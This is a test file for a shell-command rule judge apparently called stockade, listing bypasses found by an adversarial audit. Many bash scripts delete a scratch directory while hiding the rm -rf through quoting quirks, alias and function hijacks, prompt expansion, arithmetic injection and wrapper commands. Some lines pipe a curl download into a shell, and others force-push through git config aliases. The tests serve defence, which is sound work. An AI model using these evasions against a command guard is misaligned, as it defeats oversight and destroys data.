"""The bypasses an adversarial audit found, each a script that really deletes a directory
in bash (the control runs it, under a scratch HOME, against a scratch directory) while the
judge said no rule applies: each is now forbidden or asked."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from stockade.rules import (
    DEFAULT_FIRST_WORDS,
    Decision,
    RuleSet,
    argv_may_apply,
    first_words,
    may_apply,
    plain_words,
)

DATA = "DATA"  # stands for the scratch directory in every script below


def _rules(data: Path) -> RuleSet:
    """The defaults, and a rule forbidding `rm -r` of the scratch directory."""
    rule = {
        "name": "rm-data",
        "prefix": ["rm"],
        "args": [["-r", "-R", "--r*"], str(data)],
        "decision": "forbid",
        "reason": "the data",
    }
    return RuleSet.from_config([rule])


def _bash_deletes(script: str, tmp_path: Path) -> bool:
    """Whether bash, running `script` in a scratch HOME and directory, deletes the
    scratch directory `DATA` names."""
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    data = tmp_path / "data"
    data.mkdir(exist_ok=True)
    (data / "file").write_text("x")
    env = {"HOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "TERM": "dumb"}
    subprocess.run(
        ["bash", "-c", script],
        cwd=tmp_path,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
        check=False,
    )
    return not data.exists()


def _check(template: str, tmp_path: Path, *, control: bool = True) -> None:
    data = tmp_path / "data"
    script = template.replace(DATA, str(data))
    verdict = _rules(data).judge(script)
    assert verdict.decision in (Decision.FORBID, Decision.PROMPT), (script, verdict)
    if control:
        assert _bash_deletes(script, tmp_path), f"control: bash did not delete ({script!r})"


def _installed(*names: str) -> bool:
    return all(shutil.which(name) is not None for name in names)


# --- 1. `$'...\\'`: tree-sitter ends the string later than bash --------------------------


@pytest.mark.parametrize(
    "template",
    [
        r"echo $'\\'; rm -rf DATA #'",
        r"x=$'\\'; rm -rf DATA #'",
        r"echo ${x:-$'\\'}; rm -rf DATA #'",
        r"echo $'a\'b\\'; rm -rf DATA #'",
    ],
)
def test_1_an_ansi_c_string_bash_ends_earlier_is_a_doubt(template, tmp_path):
    _check(template, tmp_path)


def test_1_an_ansi_c_string_that_ends_alike_stays_certain():
    for script in (r"echo $'\\' done", r"echo $'it\'s'", r"printf $'\x41\n'"):
        assert RuleSet.defaults().judge(script).uncertain == (), script


# --- 2. backquotes in an unquoted heredoc body ----------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "cat <<EOF\n`rm -rf DATA`\nEOF\n",
        "cat <<-EOF\n\t`rm -rf DATA`\nEOF\n",
        'cat <<EOF\n"`rm -rf DATA`"\nEOF\n',
        "cat <<EOF\n$(true) `rm -rf DATA`\nEOF\n",
    ],
)
def test_2_a_backquote_in_an_unquoted_heredoc_is_a_doubt(template, tmp_path):
    _check(template, tmp_path)


def test_2_a_heredoc_with_parsed_substitutions_only_stays_certain():
    verdict = RuleSet.defaults().judge("cat <<EOF\nhello $HOME $(date)\nEOF\n")
    assert verdict.uncertain == ()


# --- 7. `--` before eval's script and trap's action ------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "eval -- 'rm -rf DATA'",
        "builtin eval -- 'rm -rf DATA'",
        "trap -- 'rm -rf DATA' EXIT",
    ],
)
def test_7_a_double_dash_before_a_script_is_skipped(template, tmp_path):
    _check(template, tmp_path)
    assert RuleSet.defaults().judge(template.replace(DATA, "~")).forbidden


# --- 3. quoted "$@" and "${a[@]}" are any number of words ------------------------------


@pytest.mark.parametrize(
    "template",
    [
        'f() { rm "$@"; }; f -rf DATA',
        'set -- -rf DATA; rm "$@"',
        'a=(-rf DATA); rm "${a[@]}"',
        'set -- x -rf DATA; rm "${@:2}"',
        'a=(-rf DATA); rm "${a[@]:0}"',
    ],
)
def test_3_a_quoted_array_expansion_may_be_several_words(template, tmp_path):
    _check(template, tmp_path)


def test_3_quoted_star_and_lengths_stay_one_word():
    rules = RuleSet.defaults()
    for script in ('rm -f "$*"', 'rm -f "${#a[@]}"', 'rm -f "${a[*]}"'):
        assert rules.judge(script).uncertain == (), script


# --- 8. `jobs -x`, `fc`, `history -s` ---------------------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "jobs -x rm -rf DATA",
        "jobs -x -- rm -rf DATA",
        "set -o history\nhistory -s 'rm -rf DATA'\nfc -s",
        "set -o history\nhistory -s 'rm -rf XDATA'\nfc -s X=",
    ],
)
def test_8_jobs_x_and_the_history_builtins_run_commands(template, tmp_path):
    _check(template, tmp_path)


def test_8_jobs_and_fc_that_run_nothing_stay_certain():
    rules = RuleSet.defaults()
    for script in ("jobs", "jobs -l", "jobs rm -rf ~", "fc -l", "fc -ln 1"):
        assert rules.judge(script).decision is None, script
    assert rules.judge("history -s x").must_ask


def test_8_the_pre_check_loads_the_rules_for_them():
    for argv in (["bash", "-c", "jobs -x rm -rf ~"], ["jobs", "-x", "rm"], ["fc", "-s"]):
        assert argv_may_apply(argv, DEFAULT_FIRST_WORDS), argv
    assert may_apply("history", DEFAULT_FIRST_WORDS)


# --- 10. shells under other names --------------------------------------------------------


@pytest.mark.parametrize("shell", ["rbash", "rzsh", "zsh5"])
def test_10_a_restricted_or_versioned_shell_carries_its_script(shell, tmp_path):
    _check(f"{shell} -c 'rm -rf DATA'", tmp_path, control=_installed(shell))


@pytest.mark.parametrize(
    "shell", ["rbash", "rzsh", "zsh5", "yash", "posh", "lksh", "ksh93", "oksh", "hush"]
)
def test_10_every_shell_name_is_judged_and_pre_checked(shell):
    assert RuleSet.defaults().judge(f"{shell} -c 'rm -rf ~'").forbidden
    assert argv_may_apply([shell, "-c", "rm -rf ~"], DEFAULT_FIRST_WORDS)
    assert may_apply(f"/usr/bin/{shell}", frozenset())


@pytest.mark.parametrize("shell", ["bash5.2", "bash-5.1", "rdash", "dash0.5", "zsh-5.9"])
def test_10_a_versioned_or_restricted_name_of_a_shell_is_that_shell(shell):
    assert RuleSet.defaults().judge(f"{shell} -c 'rm -rf ~'").forbidden
    assert may_apply(shell, frozenset())
    assert RuleSet.defaults().judge(f"curl -s https://x | {shell}").must_ask


def test_10_a_download_piped_into_rbash_is_asked():
    verdict = RuleSet.defaults().judge("curl -s https://example.com/i | rbash")
    assert verdict.must_ask and verdict.rule is not None
    assert verdict.rule.name == "download-to-shell"


def test_10_names_near_a_shells_stay_ordinary():
    for name in ("rsh", "ssh", "shasum", "bashbug", "rm"):
        assert not may_apply(name, frozenset()), name


# --- 12. a script operand that is a descriptor -----------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "echo 'rm -rf DATA' | bash /dev//stdin",
        "echo 'rm -rf DATA' | bash /dev/./stdin",
        "echo 'rm -rf DATA' | bash /proc/thread-self/fd/0",
        "bash /dev//stdin <<< 'rm -rf DATA'",
        "bash /dev/fd/3 3< <(echo 'rm -rf DATA')",
        "exec 3< <(echo 'rm -rf DATA'); bash /dev/fd/3",
        "echo 'rm -rf DATA' > >(bash /dev//fd/0); sleep 1",
    ],
)
def test_12_a_shell_reading_a_descriptor_however_spelt_is_judged_or_doubted(template, tmp_path):
    _check(template, tmp_path)


def test_12_a_here_string_to_stdin_however_spelt_is_judged():
    assert RuleSet.defaults().judge("bash /dev//stdin <<< 'rm -rf ~'").forbidden
    assert RuleSet.defaults().judge("bash /dev/./fd/0 <<< 'true'").decision is None


# --- 13. `exec` redirecting the shell's own standard input ------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "exec <<< 'rm -rf DATA'; bash",
        "exec < <(echo rm -rf DATA); bash",
        "exec 0< <(echo rm -rf DATA)\nsh",
    ],
)
def test_13_a_shell_reading_what_exec_redirected_is_a_doubt(template, tmp_path):
    _check(template, tmp_path)


def test_13_a_download_exec_feeds_to_a_shell_is_asked():
    verdict = RuleSet.defaults().judge("exec < <(curl -s https://example.com/i); sh")
    assert verdict.rule is not None and verdict.rule.name == "download-to-shell"


def test_13_exec_redirecting_output_or_from_a_file_stays_certain():
    for script in ("exec > log; bash x.sh", "exec < input; cat", "exec 2>&1; ls"):
        assert RuleSet.defaults().judge(script).uncertain == (), script


# --- 9. an assignment after time, coproc, sudo ------------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "time FOO=1 rm -rf DATA",
        "time -p FOO=1 rm -rf DATA",
        "coproc FOO=1 rm -rf DATA; wait",
    ],
)
def test_9_an_assignment_after_a_wrapper_is_skipped(template, tmp_path):
    _check(template, tmp_path)


def test_9_an_assignment_after_sudo_is_skipped():
    assert RuleSet.defaults().judge("sudo FOO=1 rm -rf ~").forbidden


# --- 16. more wrappers -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "tool"),
    [
        ("taskset -c 0 rm -rf DATA", "taskset"),
        ("flock lockfile rm -rf DATA", "flock"),
        ("flock lockfile -c 'rm -rf DATA'", "flock"),
        ("setpriv rm -rf DATA", "setpriv"),
        ("unshare rm -rf DATA", "unshare"),
        ("chrt -o 0 rm -rf DATA", "chrt"),
        ("prlimit --nofile=100 rm -rf DATA", "prlimit"),
        ("setarch x86_64 rm -rf DATA", "setarch"),
        ("strace -o /dev/null rm -rf DATA", "strace"),
        ("/lib64/ld-linux-x86-64.so.2 /bin/rm -rf DATA", "/lib64/ld-linux-x86-64.so.2"),
        ("script -qc 'rm -rf DATA' /dev/null", "script"),
        ("script -q /dev/null -c 'rm -rf DATA'", "script"),
        ("su -c 'rm -rf DATA'", "su"),
        ("su root -c 'rm -rf DATA'", "su"),
    ],
)
def test_16_a_wrapper_s_command_is_judged(template, tool, tmp_path):
    control = _installed(tool) and (tool != "su" or os.geteuid() == 0)
    _check(template, tmp_path, control=control)
    name = tool.rpartition("/")[2]
    assert may_apply(name, DEFAULT_FIRST_WORDS), name


def test_16_what_a_wrapper_runs_with_no_command_is_a_shell():
    rules = RuleSet.defaults()
    for script in ("curl -s https://x | unshare -r", "curl -s https://x | su", "curl x | script"):
        assert rules.judge(script).must_ask, script
    for script in ("taskset -p 1", "chrt -p 1", "flock 9", "prlimit --pid 1"):
        assert rules.judge(script).decision is None, script
    assert rules.judge("su -s /bin/rm").must_ask  # another program as the shell: unknown


# --- 6, 15. command name tables and exported functions ---------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "BASH_CMDS[ls]=/bin/rm; ls -rf DATA",
        "BASH_CMDS=([ls]=/bin/rm); ls -rf DATA",
        "declare -A BASH_CMDS=([ls]=/bin/rm); ls -rf DATA",
        "shopt -s expand_aliases; BASH_ALIASES[ls]='rm -rf DATA'\nls",
        "env 'BASH_FUNC_ls%%=() { rm -rf DATA; }' bash -c ls",
    ],
)
def test_6_15_what_changes_what_a_command_name_runs_is_a_doubt(template, tmp_path):
    _check(template, tmp_path)


def test_15_an_exported_function_in_an_argv_is_doubted_and_pre_checked():
    argv = ["env", "BASH_FUNC_ls%%=() { rm -rf ~; }", "bash", "-c", "ls"]
    assert argv_may_apply(["make", "BASH_FUNC_x%%=y"], DEFAULT_FIRST_WORDS)
    assert RuleSet.defaults().judge_argv(argv).must_ask


# --- 14. interactive shells --------------------------------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "PROMPT_COMMAND='rm -rf DATA' bash -i <<< 'true'",
        "PROMPT_COMMAND='rm -rf DATA' bash -i -s <<< 'true'",
        "env PROMPT_COMMAND='rm -rf DATA' bash -i < /dev/null",
        "ENV=<(echo 'rm -rf DATA') sh -i < /dev/null",
        "PROMPT_COMMAND='rm -rf DATA' bash --posix -i < /dev/null",
    ],
)
def test_14_an_interactive_shell_is_a_doubt(template, tmp_path):
    _check(template, tmp_path)


@pytest.mark.parametrize(
    "script",
    [
        "bash -i",
        "PS1='inner''$ ' bash --norc --noprofile -i",
        "bash --norc -i < /dev/null",
    ],
)
def test_14_an_interactive_shell_that_is_given_nothing_to_run_stays_certain(script):
    """`stockade run bash -i` is ordinary work (tests/cli/test_cli_run_pty.py): only
    what the same text sets for it to run by itself is a doubt."""
    assert RuleSet.defaults().judge(script).decision is None, script


def test_14_a_prompt_that_may_expand_is_a_doubt():
    for script in ("PS1='$(rm -rf ~)' bash -i", "d='$'; PS1=\"${d}(rm -rf ~)\" bash -i"):
        assert RuleSet.defaults().judge(script).must_ask, script


# --- 5. prompt expansion -----------------------------------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        'd=\'$\'; x="$d(rm -rf DATA)"; echo "${x@P}"',
        "d='$'; PS4=\"$d(rm -rf DATA)\"; set -x; true",
        "d='$'; PS4=\"$d(rm -rf DATA)\"; set -o xtrace; true",
    ],
)
def test_5_a_prompt_expansion_is_a_doubt(template, tmp_path):
    _check(template, tmp_path)


def test_5_ps4_in_an_argv_is_pre_checked():
    assert argv_may_apply(["make", "PS4=x"], DEFAULT_FIRST_WORDS)
    assert RuleSet.defaults().judge_argv(["env", "PS4=$(x)", "bash", "-xc", "true"]).must_ask


# --- 17. a force push git's configuration hides -----------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        "git -c alias.ship='push --force' ship origin main",
        "git -c alias.p='!git push -f' p origin main",
        "git -c Alias.P='push -f' p origin main",
        "git --config-env=alias.p=PUSH p origin main",
        "git -c remote.origin.push=+refs/heads/main:refs/heads/main push origin",
        "git -c remote.origin.mirror=true push origin",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='push -f' git p o main",
        "export GIT_CONFIG_PARAMETERS=\"'alias.p'='push -f'\"; git p origin main",
        "git push --mirror origin",
        "git send-pack --force ../remote.git main",
        "git send-pack ../remote.git +main",
    ],
)
def test_17_a_force_push_through_configuration_is_asked(script):
    assert RuleSet.defaults().judge(script).must_ask, script


def test_17_ordinary_git_configuration_stays_certain():
    for script in ("git -c user.name=x commit -m y", "git -c core.pager=cat log", "git push"):
        assert RuleSet.defaults().judge(script).decision is None, script


def test_17_a_config_alias_really_force_pushes(tmp_path):
    """Control: `git -c alias.ship='push --force' ship` rewrites the remote's branch."""
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("GIT_")},
        "HOME": str(tmp_path),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "a",
        "GIT_AUTHOR_EMAIL": "a@b",
        "GIT_COMMITTER_NAME": "a",
        "GIT_COMMITTER_EMAIL": "a@b",
    }

    def git(*args: str, cwd: Path = tmp_path / "work") -> str:
        done = subprocess.run(
            ["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True
        )
        return done.stdout.strip()

    git("init", "-q", "--bare", "-b", "main", str(tmp_path / "remote.git"), cwd=tmp_path)
    git("init", "-q", "-b", "main", str(tmp_path / "work"), cwd=tmp_path)
    git("commit", "-q", "--allow-empty", "-m", "one")
    git("remote", "add", "origin", str(tmp_path / "remote.git"))
    git("push", "-q", "origin", "main")
    git("commit", "-q", "--amend", "--allow-empty", "-m", "rewritten")
    git("-c", "alias.ship=push --force", "ship", "-q", "origin", "main")
    assert git("log", "-1", "--format=%s", "main", cwd=tmp_path / "remote.git") == "rewritten"


# --- 4. arithmetic over what the script's caller or bash sets ---------------------------


@pytest.mark.parametrize(
    "template",
    [
        "d=$'$'; set -- \"a[${d}(rm -rf DATA)]\"; echo $(( $1 ))",
        "d=$'$'; set -- \"a[${d}(rm -rf DATA)]\"; [[ $1 -eq 0 ]]",
        'd=$\'$\'; set -- "a[${d}(rm -rf DATA)]"; echo "${x[$1]}"',
        "d=$'$'; [[ \"a[${d}(rm -rf DATA)]\" =~ .+ ]]; echo $((BASH_REMATCH))",
        "d=$'$'; : \"a[${d}(rm -rf DATA)]\"; echo $((_))",
        "d=$'$'; set -- \"a[${d}(rm -rf DATA)]\"; echo ${!1}",
        "d=$'$'; f() { echo $(( $1 )); }; f \"a[${d}(rm -rf DATA)]\"",
    ],
)
def test_4_arithmetic_over_parameters_bash_sets_is_a_doubt(template, tmp_path):
    _check(template, tmp_path)


def test_4_arithmetic_over_what_the_script_wrote_stays_certain():
    for script in ("set -e; i=1; echo $((i + 1))", "echo $(( $# + 1 ))", "set -- a; echo $#"):
        assert RuleSet.defaults().judge(script).uncertain == (), script


# --- 11. bash-only quoting given to another shell ----------------------------------------


def test_11_bash_only_quoting_in_a_posix_shells_script_is_a_doubt(tmp_path):
    template = "dash -c \"echo \\$'\\\\';rm -rf DATA;echo\n'\""
    _check(template, tmp_path, control=_installed("dash"))
    assert RuleSet.defaults().judge("sh -c \"echo \\$'\\\\';rm -rf ~;echo\n'\"").must_ask
    assert RuleSet.defaults().judge("bash -c \"echo \\$'x'\"").uncertain == ()
    assert RuleSet.defaults().judge("sh -c 'echo hi'").uncertain == ()
    # A `$` ending a single-quoted pattern is plain text to every shell.
    assert RuleSet.defaults().judge("sh <<'EOF'\ngrep 'x$' f\nEOF\n").uncertain == ()
    # A quote inside double quotes opens nothing: the `$'` after it still counts.
    assert RuleSet.defaults().judge('sh -c "echo \\"it\'s\\" \\$\'x\'"').must_ask


# --- found on the way: words after a redirection's target -------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "rm -rf >/dev/null DATA",
        "rm -rf 2>/dev/null DATA",
        "rm 2>&1 -rf DATA",
        "rm -rf <&- DATA",
    ],
)
def test_words_after_a_redirection_are_the_commands(template, tmp_path):
    """tree-sitter hangs them on the redirection; bash gives them to the command."""
    _check(template, tmp_path)


def test_a_descriptor_before_a_redirection_is_no_word():
    verdict = RuleSet.defaults().judge("exec 0< <(curl -s https://example.com/i)\nsh")
    assert verdict.rule is not None and verdict.rule.name == "download-to-shell"
    assert RuleSet.defaults().judge("exec 3< <(echo x); cat").decision is None


# --- the pre-check stays exact -----------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["make", "BASH_CMDS"],
        ["env", "BASH_ALIASES=x", "bash", "-O", "expand_aliases", "-c", "ls"],
        ["make", "GIT_CONFIG_COUNT=1"],
        ["env", "BASH_FUNC_x%%=() { :; }", "bash", "-c", "x"],
        ["env", "PS4=$(x)", "bash", "-x", "-c", "true"],
    ],
)
def test_every_name_the_judge_doubts_in_an_argv_is_pre_checked(argv):
    assert argv_may_apply(argv, DEFAULT_FIRST_WORDS)
    assert RuleSet.defaults().judge_argv(argv).must_ask
    script = " ".join(argv)
    assert argv_may_apply(["bash", "-c", script], DEFAULT_FIRST_WORDS)
    if plain_words(script) is not None:  # what `stockade run` asks
        assert RuleSet.defaults().judge(script).must_ask


@pytest.mark.parametrize(
    "script",
    [
        "grep PS4 ~/.bashrc",
        "echo PS4",
        "grep -n BASH_ALIASES README.md",
        "grep -r BASH_FUNC_ .",
        "GIT_CONFIG_NOSYSTEM=1 git status",
        "grep -rn GIT_CONFIG_NOSYSTEM .",
    ],
)
def test_reading_those_names_stays_certain(script):
    """Each matters only with what makes bash act on it (tracing for PS4, expanded
    aliases for BASH_ALIASES, the `%%` of an exported function; GIT_CONFIG_NOSYSTEM
    only takes configuration away): naming it is no doubt."""
    assert RuleSet.defaults().judge(script).decision is None, script


def test_17_git_doubts_are_only_for_rules_naming_git():
    """The pre-check does not look into git unless a rule names it: nor does the judge."""
    make_only = RuleSet.from_config(
        [{"name": "m", "prefix": ["make"], "decision": "forbid", "reason": "r"}], defaults=False
    )
    words = first_words(make_only.rules)
    for argv in (
        ["git", "-c", "alias.p=push -f", "p"],
        ["git", "send-pack", "--force", "x"],
    ):
        assert not argv_may_apply(argv, words)
        assert make_only.judge_argv(argv).uncertain == (), argv
    assert make_only.judge("GIT_CONFIG_COUNT=1 git p").uncertain == ()
